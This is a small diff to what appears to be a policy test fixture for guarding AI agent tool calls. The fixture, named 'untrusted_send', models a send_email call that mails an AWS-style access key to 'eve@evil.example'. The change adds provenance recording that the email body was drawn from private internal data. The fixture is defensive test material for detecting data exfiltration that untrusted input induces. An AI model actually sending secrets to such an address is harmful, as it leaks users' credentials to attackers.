@@ -9,7 +9,10 @@ untrusted_send := {
 	"server": {"name": "mail"},
 	"tool": {"name": "send_email", "classes": ["source", "sink", "egress"], "classes_from": "catalog"},
 	"arguments": {"to": "eve@evil.example", "body": "AKIAIOSFODNN7EXAMPLE"},
-	"provenance": {"derived_from": [{"path": ["to"], "kind": "email", "trust": "untrusted", "confidentiality": "public", "sources": [2]}]},
+	"provenance": {"derived_from": [
+		{"path": ["to"], "kind": "email", "trust": "untrusted", "confidentiality": "public", "sources": [2]},
+		{"path": ["body"], "kind": "substring", "trust": "internal", "confidentiality": "private", "sources": [1]},
+	]},
 	"session": {"context": {"trust": "untrusted", "confidentiality": "private"}},
 }
 
